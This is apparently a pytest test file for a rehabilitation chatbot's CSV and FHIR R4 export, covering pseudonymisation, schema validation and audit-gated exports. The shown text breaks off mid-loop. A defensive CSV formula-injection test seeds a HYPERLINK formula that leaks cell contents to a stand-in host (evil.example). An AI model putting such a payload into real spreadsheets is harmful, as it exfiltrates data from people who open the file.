"""Exports: CSV files per entity with the documented columns, and a FHIR R4 Bundle that validates."""

from __future__ import annotations

import csv
import functools
import io
import json
import re
import sqlite3
import uuid
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from subprocess import CompletedProcess
from types import SimpleNamespace
from typing import Any

import pytest
from cli_runner import rehab_bot
from factories import PG_TEST_SCHEMA, make_patient, make_staff, pg_connect, require_postgres
from fhir.resources.R4B.bundle import Bundle
from fhir.resources.R4B.careplan import CarePlan
from fhir.resources.R4B.communication import Communication
from fhir.resources.R4B.flag import Flag
from fhir.resources.R4B.observation import Observation
from fhir.resources.R4B.patient import Patient as FhirPatient
from fhir.resources.R4B.questionnaire import Questionnaire
from fhir.resources.R4B.questionnaireresponse import QuestionnaireResponse
from fhir.resources.R4B.relatedperson import RelatedPerson
from jsonschema import Draft6Validator
from sqlalchemy.engine import make_url

from rehab_bot import audit, export, installation
from rehab_bot.clock import FakeClock
from rehab_bot.config import ConfigError, load_config
from rehab_bot.content import load_content
from rehab_bot.db import Database
from rehab_bot.models import (
    Alert,
    Answer,
    Caregiver,
    CareMessage,
    CheckIn,
    ExerciseSession,
    Installation,
    LessonProgress,
    Note,
    Patient,
    PatientStatus,
)

ROOT = Path(__file__).resolve().parent.parent
CONTENT = load_content(None)
TELEGRAM_ID = 5_550_001


async def seed(db: Database, clock: FakeClock) -> tuple[Patient, Patient]:
    """Two patients; the first with sessions, check-ins (pain, PHQ-2, mood, one partial), a note and an alert."""
    doc = await make_staff(db, name="Dr Export")
    patient, _ = await make_patient(
        db,
        clock,
        alias="LWS-0412",
        telegram_id=TELEGRAM_ID,
        therapist_id=doc.id,
        programme_id="lumbar-example",
        surgery_date=date(2026, 5, 20),
        session_times="09:00,13:00,18:00",
        consent_at=clock.now() - timedelta(days=20),
    )
    # Invited, never consented.
    other, _ = await make_patient(db, clock, alias="CRV-0001", therapist_id=doc.id, status=PatientStatus.ENROLLING)
    assert patient.id is not None
    t0 = clock.now()
    async with db.session() as session:
        for back, status in ((3, "done"), (2, "missed"), (1, "partly")):
            session.add(
                ExerciseSession(
                    patient_id=patient.id,
                    local_date=date(2026, 6, 10) - timedelta(days=back),
                    slot="09:00",
                    phase_id="weeks-3-6",
                    status=status,
                    pain=3 if status != "missed" else None,
                    answered_at=t0 - timedelta(days=back) if status != "missed" else None,
                )
            )

        async def checkin(
            qid: str, answers: list[tuple[str, int | None, str]], score: float | None, status: str
        ) -> None:
            row = CheckIn(
                patient_id=patient.id or 0,
                questionnaire_id=qid,
                status=status,
                started_at=t0 - timedelta(hours=5),
                completed_at=t0 - timedelta(hours=4) if status == "complete" else None,
                score=score,
            )
            session.add(row)
            await session.flush()
            for item, value, text in answers:
                session.add(
                    Answer(
                        checkin_id=row.id or 0,
                        patient_id=patient.id or 0,
                        item_id=item,
                        value=value,
                        text=text,
                        answered_at=t0 - timedelta(hours=4, minutes=30),
                    )
                )

        await checkin("pain", [("pain", 6, "")], 6, "complete")
        await checkin("phq2", [("interest", 1, ""), ("down", 2, "")], 3, "complete")
        await checkin("mood", [("mood", 4, "")], 4, "complete")
        await checkin("odi", [("walking", 2, "")], None, "expired")
        await checkin("pain", [], None, "expired")  # never answered: no QuestionnaireResponse
        session.add(Note(patient_id=patient.id, text='Knee hurts, "a bit", today', created_at=t0))
        session.add(
            LessonProgress(
                patient_id=patient.id,
                lesson_id="infection-signs",
                safety=True,
                delivered_at=t0,
                first_answer=0,
                last_answer=1,
                wrong_answers=1,
                understood=True,
                answered_at=t0,
            )
        )
        session.add(Alert(patient_id=patient.id, severity="high", kind="red_flag", detail="fever", created_at=t0))
        session.add(
            Alert(
                patient_id=patient.id,
                severity="low",
                kind="inactive",
                created_at=t0 - timedelta(days=2),
                acknowledged_at=t0 - timedelta(days=1),
                acknowledged_by=doc.id,
            )
        )
        await session.commit()
    return patient, other


async def test_csv_has_one_file_per_entity_with_the_documented_columns(db: Database, clock: FakeClock) -> None:
    patient, _ = await seed(db, clock)
    async with db.session() as session:
        data = await export.collect(session, clock.now(), patient=patient)
    files = export.csv_files(data)
    assert list(files) == [
        "patients.csv",
        "sessions.csv",
        "checkins.csv",
        "answers.csv",
        "notes.csv",
        "alerts.csv",
        "lessons.csv",
        "messages.csv",
        "caregivers.csv",
    ]
    docs = (ROOT / "docs" / "EXPORTS.md").read_text(encoding="utf-8")
    tables = {name: list(csv.DictReader(io.StringIO(text))) for name, text in files.items()}
    for name, text in files.items():
        header = next(csv.reader(io.StringIO(text)))
        assert header == export.TABLES[name][0]
        for column in header:
            assert re.search(rf"^\| `{column}` \|", docs.split(f"### {name}")[1].split("###")[0], re.M), (
                f"{name}: column {column} is not documented in docs/EXPORTS.md"
            )
    [row] = tables["patients.csv"]
    assert row["alias"] == "LWS-0412" and row["therapist"] == "Dr Export" and row["surgery_date"] == "2026-05-20"
    assert row["session_times"] == "09:00 13:00 18:00"
    assert [r["status"] for r in tables["sessions.csv"]] == ["done", "missed", "partly"]
    assert len(tables["checkins.csv"]) == 5 and len(tables["answers.csv"]) == 5
    assert tables["notes.csv"][0]["text"] == 'Knee hurts, "a bit", today', "quoting survives commas and quotes"
    assert tables["alerts.csv"][1]["detail"] == "fever"
    [lesson] = tables["lessons.csv"]
    assert lesson["patient"] == "LWS-0412" and lesson["lesson_id"] == "infection-signs"
    assert (lesson["safety"], lesson["first_answer"], lesson["last_answer"]) == ("true", "0", "1")
    assert (lesson["wrong_answers"], lesson["understood"]) == ("1", "true")
    everything = "".join(files.values())
    assert str(TELEGRAM_ID) not in everything and "CRV-0001" not in everything
    zipped = zipfile.ZipFile(io.BytesIO(export.csv_zip(data)))
    assert sorted(zipped.namelist()) == sorted(files)


FHIR_MODELS: dict[str, Any] = {
    "Patient": FhirPatient,
    "QuestionnaireResponse": QuestionnaireResponse,
    "Questionnaire": Questionnaire,
    "Observation": Observation,
    "Flag": Flag,
    "CarePlan": CarePlan,
    "Communication": Communication,
    "RelatedPerson": RelatedPerson,
}
FHIR_SCHEMA = ROOT / "tests" / "data" / "fhir" / "fhir.schema.json"


@functools.cache
def schema_validators() -> tuple[Draft6Validator, dict[str, Draft6Validator]]:
    """The official FHIR R4 JSON schema (tests/data/fhir/README.md): for a whole Bundle and per resource type."""
    schema = json.loads(FHIR_SCHEMA.read_text(encoding="utf-8"))
    assert schema["id"] == "http://hl7.org/fhir/json-schema/4.0"
    definitions = schema["definitions"]
    per_type = {
        name: Draft6Validator({"$ref": f"#/definitions/{name}", "definitions": definitions}) for name in FHIR_MODELS
    }
    return Draft6Validator(schema), per_type


def validate_bundle(bundle: dict[str, Any]) -> dict[str, list[dict[str, Any]]]:
    """Validate with fhir.resources and the official R4 JSON schema; the resources by type.

    The schema is applied to the exported JSON text in two parts that together are the whole: each
    resource against its own type's definition, then the Bundle around them. In the schema an entry's
    resource is a oneOf over all 146 resource types, each pinned by a `resourceType` constant, so one
    that matches its own type's definition matches that one alone; checked through the oneOf, every
    resource was tried against every type (5% of the fast suite's CPU).
    """
    text = export.fhir_json(bundle)
    assert Bundle.model_validate(json.loads(text)).type == "collection"
    whole, per_type = schema_validators()
    exported = json.loads(text)
    by_type: dict[str, list[dict[str, Any]]] = {}
    for entry, sent in zip(bundle["entry"], exported["entry"], strict=True):
        resource = entry["resource"]
        kind = resource["resourceType"]
        by_type.setdefault(kind, []).append(resource)
        assert entry["fullUrl"] == f"urn:uuid:{resource['id']}"
        FHIR_MODELS[kind].model_validate(resource)
        errors = [f"{kind} {list(e.absolute_path)}: {e.message}" for e in per_type[kind].iter_errors(sent["resource"])]
        assert errors == []
        del sent["resource"]
    assert list(whole.iter_errors(exported)) == [], "the Bundle does not match the FHIR R4 JSON schema"
    return by_type


def unresolved(bundle: dict[str, Any]) -> list[str]:
    """Every Reference and canonical in the Bundle that names nothing in it."""
    full_urls = {entry["fullUrl"] for entry in bundle["entry"]}
    canonicals = {entry["resource"]["url"] for entry in bundle["entry"] if "url" in entry["resource"]}
    missing: list[str] = []

    def walk(value: Any, key: str = "") -> None:
        if isinstance(value, dict):
            for k, v in value.items():
                if k == "reference" and isinstance(v, str) and v not in full_urls:
                    missing.append(v)
                walk(v, k)
        elif isinstance(value, list):
            for v in value:
                walk(v, key)
        elif key == "questionnaire" and value not in canonicals:  # QuestionnaireResponse.questionnaire
            missing.append(value)

    for entry in bundle["entry"]:
        walk(entry["resource"])
    return missing


async def test_fhir_bundle_validates_and_maps_scores_to_loinc(db: Database, clock: FakeClock) -> None:
    await seed(db, clock)
    async with db.session() as session:
        data = await export.collect(session, clock.now())
    bundle = export.fhir_bundle(data, CONTENT, clock.now())
    by_type = validate_bundle(bundle)
    urls = {entry["fullUrl"] for entry in bundle["entry"]}
    patients = by_type["Patient"]
    assert sorted(p["identifier"][0]["value"] for p in patients) == ["CRV-0001", "LWS-0412"]
    assert all(set(p) == {"resourceType", "id", "identifier", "active"} for p in patients), "pseudonymous"
    assert str(TELEGRAM_ID) not in json.dumps(bundle)
    responses = by_type["QuestionnaireResponse"]
    assert {r["status"] for r in responses} == {"completed", "stopped"}
    observations = [o for o in by_type["Observation"] if o["category"][0]["coding"][0]["code"] == "survey"]
    scores = {
        (o["code"]["coding"][0]["system"], o["code"]["coding"][0]["code"]): o["valueInteger"]
        for o in observations
        if "derivedFrom" in o
    }
    assert scores == {
        ("http://loinc.org", "72514-3"): 6,
        ("http://loinc.org", "55758-7"): 3,
        (export.CODE_SYSTEM, "score-mood"): 4,  # mood has no LOINC code: the project's code system
    }
    for o in observations:
        assert o["category"][0]["coding"][0] == {
            "system": "http://terminology.hl7.org/CodeSystem/observation-category",
            "code": "survey",
            "display": "Survey",
        }
        assert o["subject"]["reference"] in urls
        for source in o.get("derivedFrom", []):
            assert source["reference"] in urls
    [plan] = by_type["CarePlan"]
    assert plan["status"] == "active" and plan["intent"] == "plan"
    programme = CONTENT.programmes["lumbar-example"]
    assert len(plan["activity"]) == len(programme.phases)
    first, second = plan["activity"][0]["detail"], plan["activity"][1]["detail"]
    assert first["code"]["coding"][0] == {
        "system": "http://snomed.info/sct",
        "code": "229065009",
        "display": "Exercise therapy",
    }
    assert first["status"] == "completed" and second["status"] == "in-progress"  # day 21 after surgery
    assert second["scheduledTiming"]["repeat"]["frequency"] == 2
    assert second["scheduledTiming"]["repeat"]["boundsPeriod"] == {"start": "2026-06-03", "end": "2026-06-30"}
    assert plan["activity"][1]["progress"] == [{"text": "2 of 3 planned sessions done"}]


async def test_every_reference_and_canonical_resolves_inside_the_bundle(db: Database, clock: FakeClock) -> None:
    await seed(db, clock)
    async with db.session() as session:
        data = await export.collect(session, clock.now())
    bundle = export.fhir_bundle(data, CONTENT, clock.now())
    by_type = validate_bundle(bundle)
    assert unresolved(bundle) == []
    questionnaires = {q["url"]: q for q in by_type["Questionnaire"]}
    assert len(questionnaires) == len(by_type["Questionnaire"]) == 4  # pain, phq2, mood, odi: once each
    for response in by_type["QuestionnaireResponse"]:
        questionnaire = questionnaires[response["questionnaire"]]
        link_ids = {item["linkId"] for item in questionnaire.get("item", [])}
        if questionnaire["status"] == "active":
            assert {item["linkId"] for item in response["item"]} <= link_ids
    by_name = {q["name"].removeprefix("RehabBot_"): q for q in questionnaires.values()}
    assert all(re.fullmatch(r"[A-Z][A-Za-z0-9_]*", name) for name in (q["name"] for q in questionnaires.values()))
    assert by_name["phq2"]["code"] == [{"system": "http://loinc.org", "code": "55757-9"}]
    assert by_name["pain"]["item"][0]["answerOption"][0] == {"valueInteger": 0}
    assert by_name["odi"]["status"] == "unknown", "not in the built-in content: a stub, so the canonical resolves"
    # Without content every canonical still resolves.
    assert unresolved(export.fhir_bundle(data, None, clock.now())) == []


async def test_patient_active_reflects_consent_and_status(db: Database, clock: FakeClock) -> None:
    consented = clock.now() - timedelta(days=3)
    cases = {
        "NEW-0001": (PatientStatus.ENROLLING, None, False),  # invited, never consented
        "ENR-0002": (PatientStatus.ENROLLING, consented, True),  # consented, choosing times
        "ACT-0003": (PatientStatus.ACTIVE, consented, True),
        "PAU-0004": (PatientStatus.PAUSED, consented, True),
        "UNR-0005": (PatientStatus.UNREACHABLE, consented, True),
        "DIS-0006": (PatientStatus.DISCHARGED, consented, False),
        "STP-0007": (PatientStatus.STOPPED, consented, False),
        "DEL-0008": (PatientStatus.STOPPED, None, False),  # the tombstone /delete leaves
    }
    for alias, (status, consent_at, _) in cases.items():
        await make_patient(db, clock, alias=alias, status=status, consent_at=consent_at)
    async with db.session() as session:
        data = await export.collect(session, clock.now())
    bundle = export.fhir_bundle(data, CONTENT, clock.now())
    active = {p["identifier"][0]["value"]: p["active"] for p in validate_bundle(bundle)["Patient"]}
    assert active == {alias: expected for alias, (_, _, expected) in cases.items()}


async def test_alerts_become_flags(db: Database, clock: FakeClock) -> None:
    patient, _ = await seed(db, clock)
    async with db.session() as session:
        data = await export.collect(session, clock.now(), patient=patient)
    bundle = export.fhir_bundle(data, CONTENT, clock.now())
    flags = validate_bundle(bundle)["Flag"]
    patient_url = bundle["entry"][0]["fullUrl"]
    by_code = {f["code"]["coding"][0]["code"]: f for f in flags}
    assert set(by_code) == {"alert-red_flag", "alert-inactive"}
    fever, quiet = by_code["alert-red_flag"], by_code["alert-inactive"]
    assert fever["status"] == "active" and fever["period"] == {"start": "2026-06-10T05:00:00+00:00"}
    assert fever["code"]["text"] == "Red-flag answer (high): fever"
    assert fever["category"][0]["coding"][0]["code"] == "clinical"
    assert fever["subject"] == {"reference": patient_url}
    assert quiet["status"] == "inactive", "acknowledged"
    assert quiet["period"] == {"start": "2026-06-08T05:00:00+00:00", "end": "2026-06-09T05:00:00+00:00"}
    assert quiet["category"][0]["coding"][0]["code"] == "patient-contact"
    assert all(f["code"]["coding"][0]["system"] == export.CODE_SYSTEM for f in flags)


async def test_session_pain_and_weekly_adherence_become_observations(db: Database, clock: FakeClock) -> None:
    patient, _ = await seed(db, clock)
    async with db.session() as session:
        data = await export.collect(session, clock.now(), patient=patient)
    observations = validate_bundle(export.fhir_bundle(data, CONTENT, clock.now()))["Observation"]
    session_pain = [
        o
        for o in observations
        if {"system": export.CODE_SYSTEM, "code": "exercise-session-pain"}.items() <= o["code"]["coding"][-1].items()
    ]
    assert [(o["code"]["coding"][0]["code"], o["valueInteger"]) for o in session_pain] == [
        ("72514-3", 3),
        ("72514-3", 3),
    ], "done and partly sessions with a pain rating; the missed one has none"
    assert all(o["code"]["coding"][0]["system"] == "http://loinc.org" for o in session_pain)
    weekly = [o for o in observations if o["code"]["coding"][0]["code"] == "weekly-adherence"]
    summary = [
        (o["effectivePeriod"]["start"], o["status"], o["valueQuantity"]["value"], o["valueQuantity"]["code"])
        for o in weekly
    ]
    # Sun 7 June done (week of 1 June, over); Mon 8 missed and Tue 9 partly (this week, still running).
    assert summary == [("2026-06-01", "final", 100.0, "%"), ("2026-06-08", "preliminary", 50.0, "%")]
    assert weekly[1]["effectivePeriod"]["end"] == "2026-06-14"
    assert [c["valueInteger"] for c in weekly[1]["component"]] == [1, 2]
    assert all(o["category"][0]["coding"][0]["code"] == "activity" for o in weekly)


async def test_careplan_lists_each_exercise_once(db: Database, clock: FakeClock) -> None:
    await make_patient(
        db,
        clock,
        alias="LWS-0500",
        programme_id="lumbar-example",
        surgery_date=date(2026, 6, 5),
        consent_at=clock.now(),
    )
    async with db.session() as session:
        data = await export.collect(session, clock.now())
    [plan] = validate_bundle(export.fhir_bundle(data, CONTENT, clock.now()))["CarePlan"]
    first = plan["activity"][0]["detail"]["description"]
    names = first.removeprefix("Exercises: ").split(", ")
    assert len(names) == len(set(names)), first
    assert names[0] == CONTENT.exercises["walking"].name["en"]
    used = {e for s in CONTENT.programmes["lumbar-example"].phases[0].sessions for e in s.exercises}
    assert len(names) == len(used)


async def seed_same_rows(db: Database) -> dict[str, Any]:
    clock = FakeClock(datetime(2026, 6, 10, 5, 0, tzinfo=UTC))
    await seed(db, clock)
    async with db.session() as session:
        data = await export.collect(session, clock.now())
        await session.commit()
    return export.fhir_bundle(data, CONTENT, clock.now())


async def test_two_installations_export_different_ids_for_the_same_rows(backend: str, database_factory: Any) -> None:
    first = await seed_same_rows(await database_factory(backend, name="clinic-a"))
    second = await seed_same_rows(await database_factory(backend, name="clinic-b"))
    for bundle in (first, second):
        validate_bundle(bundle)
        assert unresolved(bundle) == []
    assert [e["resource"]["resourceType"] for e in first["entry"]] == [
        e["resource"]["resourceType"] for e in second["entry"]
    ], "the same rows"
    ids = [{e["resource"]["id"] for e in bundle["entry"]} | {bundle["id"]} for bundle in (first, second)]
    assert ids[0].isdisjoint(ids[1])
    systems = [{p["resource"]["identifier"][0]["system"] for p in b["entry"][:1]} for b in (first, second)]
    assert systems[0] != systems[1]
    assert all(s.startswith("urn:uuid:") for [s] in systems)
    assert not any("rehab-bot" in s for s in systems[0] | systems[1]), "no fixed, project-wide system"


async def test_the_installation_namespace_is_made_once_and_kept(db: Database, clock: FakeClock) -> None:
    async with db.session() as session:
        made = await installation.namespace(session)
        await session.commit()
    await db.upgrade()
    async with db.session() as session:
        assert await installation.namespace(session) == made
        row = await session.get(Installation, 1)
        assert row is not None and uuid.UUID(row.namespace) == made
    patient, _ = await make_patient(db, clock, alias="LWS-0412", consent_at=clock.now())
    async with db.session() as session:
        data = await export.collect(session, clock.now(), patient=patient)
    bundle = export.fhir_bundle(data, CONTENT, clock.now())
    assert bundle["entry"][0]["resource"]["id"] == str(uuid.uuid5(made, f"Patient/{patient.id}"))
    assert bundle["entry"][0]["resource"]["identifier"][0]["system"] == f"urn:uuid:{made}"
    # A database whose row is missing (tables made some other way) gets one on first use, then keeps it.
    async with db.session() as session:
        row = await session.get(Installation, 1)
        assert row is not None
        await session.delete(row)
        await session.commit()
    async with db.session() as session:
        fresh = await installation.namespace(session)
        await session.commit()
    async with db.session() as session:
        assert fresh != made and await installation.namespace(session) == fresh


async def test_the_configured_identifier_system_names_the_alias(db: Database, clock: FakeClock) -> None:
    patient, _ = await make_patient(db, clock, alias="LWS-0412", consent_at=clock.now())
    async with db.session() as session:
        data = await export.collect(
            session, clock.now(), patient=patient, identifier_system="https://spine.klinik-muster.de/fhir/alias"
        )
    [entry] = [e for e in export.fhir_bundle(data, CONTENT, clock.now())["entry"]]
    assert entry["resource"]["identifier"] == [
        {"system": "https://spine.klinik-muster.de/fhir/alias", "value": "LWS-0412"}
    ]


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ("https://spine.klinik-muster.de/fhir/patient-alias", None),
        ("urn:oid:1.2.276.0.76.3.1.123", None),
        ("urn:uuid:3f0e1c9a-8b7d-4e2f-9a61-0c5b2d4e6f70", None),
        ("urn:rehab-bot:patient-alias", "not such a URI"),
        ("patient alias", "not such a URI"),
        ("https://clinic.example.org/alias", "example address"),
        ("https://spine.example/alias", "example address"),
    ],
)
def test_identifier_system_must_be_a_uri_the_clinic_owns(tmp_path: Path, value: str, problem: str | None) -> None:
    path = tmp_path / "config.toml"
    path.write_text(f'[export]\nidentifier_system = "{value}"\n', encoding="utf-8")
    if problem is None:
        assert load_config(path, env={}, need_token=False).export.identifier_system == value
        return
    with pytest.raises(ConfigError, match=problem) as caught:
        load_config(path, env={}, need_token=False)
    assert "export.identifier_system" in str(caught.value)


async def test_fhir_for_one_patient_is_deterministic(db: Database, clock: FakeClock) -> None:
    patient, _ = await seed(db, clock)
    async with db.session() as session:
        data = await export.collect(session, clock.now(), patient=patient)
    first = export.fhir_bundle(data, CONTENT, clock.now())
    second = export.fhir_bundle(data, CONTENT, clock.now())
    assert first == second
    assert {e["resource"]["resourceType"] for e in first["entry"]} == {
        "Patient",
        "Questionnaire",
        "QuestionnaireResponse",
        "Observation",
        "Flag",
        "CarePlan",
    }


def test_writing_files_and_refusing_a_bad_target(tmp_path: Path) -> None:
    data = export.ExportData(patients=[], therapists={}, namespace=uuid.uuid4())
    written = export.write_csv(data, tmp_path / "out")
    assert sorted(p.name for p in written) == sorted(export.TABLES)
    blocker = tmp_path / "file.txt"
    blocker.write_text("x", encoding="utf-8")
    with pytest.raises(export.ExportError, match="not a folder"):
        export.write_csv(data, blocker)
    bundle = export.fhir_bundle(data, None, datetime(2026, 6, 10, tzinfo=UTC))
    with pytest.raises(export.ExportError, match="is a folder"):
        export.write_fhir(bundle, tmp_path)
    export.write_fhir(bundle, tmp_path / "deep" / "bundle.json")
    Bundle.model_validate_json((tmp_path / "deep" / "bundle.json").read_text(encoding="utf-8"))


def cli(*args: str, cwd: Path, db_url: str, **extra_env: str) -> CompletedProcess[str]:
    return rehab_bot(*args, cwd=cwd, env={"REHAB_BOT_DATABASE_URL": db_url, **extra_env})


async def test_cli_export_writes_csv_and_fhir_and_is_audited(tmp_path: Path, database_factory: Any) -> None:
    db: Database = await database_factory("sqlite")
    clock = FakeClock(datetime(2026, 6, 10, 5, 0, tzinfo=UTC))
    await seed(db, clock)
    await db.dispose()
    out = tmp_path / "csv"
    result = cli("export", "--format", "csv", "--patient", "lws-0412", "--out", str(out), cwd=tmp_path, db_url=db.url)
    assert result.returncode == 0, result.stderr
    assert "1 patient(s) exported" in result.stdout
    assert sorted(p.name for p in out.iterdir()) == sorted(export.TABLES)
    fhir = tmp_path / "bundle.json"
    system = "https://spine.klinik-muster.de/fhir/patient-alias"
    result = cli(
        "export",
        "--format",
        "fhir",
        "--out",
        str(fhir),
        cwd=tmp_path,
        db_url=db.url,
        REHAB_BOT_EXPORT_IDENTIFIER_SYSTEM=system,
    )
    assert result.returncode == 0, result.stderr
    bundle = json.loads(fhir.read_text(encoding="utf-8"))
    validate_bundle(bundle)
    assert {e["resource"]["identifier"][0]["system"] for e in bundle["entry"][:1]} == {system}
    bad = cli("export", "--format", "csv", "--patient", "NOPE-1", "--out", str(out), cwd=tmp_path, db_url=db.url)
    assert bad.returncode == 1 and "no patient has the alias 'NOPE-1'" in bad.stderr and "Traceback" not in bad.stderr
    into_folder = cli("export", "--format", "fhir", "--out", str(tmp_path), cwd=tmp_path, db_url=db.url)
    assert into_folder.returncode == 1 and "is a folder" in into_folder.stderr
    wrong = cli("export", "--format", "xml", "--out", str(out), cwd=tmp_path, db_url=db.url)
    assert wrong.returncode == 2 and "invalid choice" in wrong.stderr
    log = cli("audit", cwd=tmp_path, db_url=db.url)
    header, *lines = [line.split("\t") for line in log.stdout.splitlines()]
    operator = audit.os_operator()  # cli:<user>@<host>, as the subprocess sees them too
    assert header[1:4] == ["who", "action", "patient"]
    assert [(f[1], f[2], f[3]) for f in lines] == [(operator, "export", "LWS-0412"), (operator, "export", "-")]


@pytest.mark.parametrize("fmt", ["csv", "fhir"])
async def test_cli_export_writes_nothing_when_the_database_refuses_its_audit_record(
    fmt: str, tmp_path: Path, database_factory: Any
) -> None:
    """Nothing leaves without an audit record: with a database that may only be read, the export
    files were written and then the record failed. Now neither a new export (nor its folders) nor a
    forced one over an earlier export changes a file, and no temporary file is left."""
    db: Database = await database_factory("sqlite")
    await seed(db, FakeClock(datetime(2026, 6, 10, 5, 0, tzinfo=UTC)))
    await db.dispose()
    earlier = tmp_path / "earlier" / ("csv" if fmt == "csv" else "bundle.json")
    assert cli("export", "--format", fmt, "--out", str(earlier), cwd=tmp_path, db_url=db.url).returncode == 0
    before = {p: p.read_bytes() for p in earlier.parent.rglob("*") if p.is_file()}
    with sqlite3.connect(db.url.split("///", 1)[1]) as conn:
        conn.execute("CREATE TRIGGER read_only BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'read-only'); END")

    fresh = tmp_path / "new" / "deeper" / ("csv" if fmt == "csv" else "bundle.json")
    for out, force in ((fresh, ()), (earlier, ("--force",))):
        result = cli("export", "--format", fmt, "--out", str(out), *force, cwd=tmp_path, db_url=db.url)
        assert result.returncode == 1, result
        assert result.stderr == "rehab-bot: the database refused the command: read-only\n"
        assert result.stdout == ""
    assert not (tmp_path / "new").exists()
    assert {p: p.read_bytes() for p in earlier.parent.rglob("*") if p.is_file()} == before
    log = cli("audit", cwd=tmp_path, db_url=db.url)
    assert len(log.stdout.splitlines()) == 2  # the header and the earlier export


async def test_cli_export_as_a_read_only_postgresql_role_writes_nothing(tmp_path: Path, database_factory: Any) -> None:
    """The audit's case itself: a PostgreSQL role that may only SELECT exports nothing."""
    require_postgres()
    db: Database = await database_factory("postgres")
    await seed(db, FakeClock(datetime(2026, 6, 10, 5, 0, tzinfo=UTC)))
    await db.dispose()
    url = make_url(db.url)
    assert url.database is not None
    role = f"rbtest_ro_{uuid.uuid4().hex[:8]}"
    conn = await pg_connect(url.database)
    try:
        await conn.execute(f"CREATE ROLE {role} LOGIN")
        await conn.execute(f'GRANT CONNECT ON DATABASE "{url.database}" TO {role}')
        await conn.execute(f"GRANT USAGE ON SCHEMA {PG_TEST_SCHEMA} TO {role}")
        await conn.execute(f"GRANT SELECT ON ALL TABLES IN SCHEMA {PG_TEST_SCHEMA} TO {role}")
        read_only = url.set(username=role, password=None).render_as_string(hide_password=False)
        result = cli(
            "export",
            "--format",
            "csv",
            "--out",
            str(tmp_path / "new" / "csv"),
            cwd=tmp_path,
            db_url=read_only,
            REHAB_BOT_DATABASE_PG_SCHEMA=PG_TEST_SCHEMA,
        )
        assert result.returncode == 1, result
        assert "rehab-bot: the database refused the command: permission denied for table audit_log" in result.stderr
        assert not (tmp_path / "new").exists()
    finally:
        await conn.execute(f"DROP OWNED BY {role}")
        await conn.execute(f"DROP ROLE {role}")
        await conn.close()


async def seed_care(db: Database, clock: FakeClock, patient: Patient) -> dict[str, Any]:
    """A message with a photo, a staff reply, the patient's answer; a caregiver with one proxy check-in."""
    t0 = clock.now()
    assert patient.id is not None
    async with db.session() as session:
        doc_id = patient.therapist_id
        first = CareMessage(
            patient_id=patient.id,
            direction="in",
            text="Is this wound OK?",
            photo_path="abc.jpg",
            photo_bytes=2048,
            created_at=t0 - timedelta(hours=3),
            read_at=t0 - timedelta(hours=2),
            read_by=doc_id,
            answered_at=t0 - timedelta(hours=2),
        )
        session.add(first)
        await session.flush()
        reply = CareMessage(
            patient_id=patient.id,
            direction="out",
            staff_id=doc_id,
            parent_id=first.id,
            text="It looks fine; keep it dry.",
            created_at=t0 - timedelta(hours=2),
        )
        session.add(reply)
        await session.flush()
        answer = CareMessage(
            patient_id=patient.id,
            direction="in",
            parent_id=reply.id,
            text="Thank you!",
            created_at=t0 - timedelta(hours=1),
        )
        link = Caregiver(
            patient_id=patient.id,
            code="cgexport",
            expires_at=t0 + timedelta(days=1),
            telegram_id=7_770_001,
            name="Maria",
            consent_at=t0 - timedelta(days=1),
            created_at=t0 - timedelta(days=2),
            emergencies=True,
        )
        session.add_all([answer, link])
        await session.flush()
        checkin = CheckIn(
            patient_id=patient.id, questionnaire_id="mood", status="complete", score=3, started_at=t0, completed_at=t0
        )
        session.add(checkin)
        await session.flush()
        session.add(
            Answer(
                checkin_id=checkin.id or 0,
                patient_id=patient.id,
                item_id="mood",
                value=3,
                answered_at=t0,
                proxy=True,
                caregiver_id=link.id,
            )
        )
        await session.commit()
        return {"first": first.id, "reply": reply.id, "answer": answer.id, "link": link.id, "checkin": checkin.id}


async def test_messages_caregivers_and_proxy_answers_are_exported(db: Database, clock: FakeClock) -> None:
    patient, _ = await seed(db, clock)
    ids = await seed_care(db, clock, patient)
    async with db.session() as session:
        data = await export.collect(session, clock.now(), patient=patient)
    files = export.csv_files(data)
    tables = {name: list(csv.DictReader(io.StringIO(text))) for name, text in files.items()}
    messages = tables["messages.csv"]
    assert [(m["direction"], m["in_reply_to"]) for m in messages] == [
        ("in", ""),
        ("out", str(ids["first"])),
        ("in", str(ids["reply"])),
    ]
    assert messages[0]["photo"] == "true" and messages[0]["photo_bytes"] == "2048" and messages[0]["read_by"]
    assert messages[1]["staff"] == "Dr Export" and messages[1]["text"] == "It looks fine; keep it dry."
    [caregiver] = tables["caregivers.csv"]
    assert caregiver["emergencies"] == "true" and caregiver["weekly"] == "false" and caregiver["consent_at"]
    proxy = [a for a in tables["answers.csv"] if a["proxy"] == "true"]
    assert [(a["item_id"], a["caregiver_id"]) for a in proxy] == [("mood", str(ids["link"]))]
    everything = "".join(files.values())
    assert "Maria" not in everything and "7770001" not in everything and "abc.jpg" not in everything

    bundle = export.fhir_bundle(data, CONTENT, clock.now())
    by_type = validate_bundle(bundle)
    assert unresolved(bundle) == []
    communications = by_type["Communication"]
    assert len(communications) == 3
    first, reply, answer = communications
    patient_ref = first["subject"]["reference"]
    assert first["sender"] == {"reference": patient_ref} and first["payload"][1]["contentAttachment"]["size"] == 2048
    assert "received" in first
    assert reply["recipient"] == [{"reference": patient_ref}] and reply["sender"] == {"display": "Dr Export"}
    assert reply["inResponseTo"] == [{"reference": f"urn:uuid:{first['id']}"}]
    assert answer["inResponseTo"] == [{"reference": f"urn:uuid:{reply['id']}"}]
    [person] = by_type["RelatedPerson"]
    assert person["active"] is True and person["patient"] == {"reference": patient_ref} and "name" not in person
    proxied = [r for r in by_type["QuestionnaireResponse"] if "source" in r]
    assert [r["source"] for r in proxied] == [{"reference": f"urn:uuid:{person['id']}"}]
    assert "Maria" not in json.dumps(bundle)


async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text(db: Database, clock: FakeClock) -> None:
    patient, _ = await seed(db, clock)
    notes = [
        '=HYPERLINK("https://evil.example/?d="&A1,"click")',
        "+1 more pain",
        "-2 better",
        "@SUM(A1:A9)",
        "\t=1+1",
        "Rücken „stärker“, Übelkeit; 3,5 km gegangen",
    ]
    assert patient.id is not None
    async with db.session() as session:
        for text in notes:
            session.add(Note(patient_id=patient.id, text=text, created_at=clock.now()))
        await session.commit()
        data = await export.collect(session, clock.now(), patient=patient)
    rows = list(csv.DictReader(io.StringIO(export.csv_files(data)["notes.csv"])))
    written = {row["text"] for row in rows}

    for text in notes[:5]:
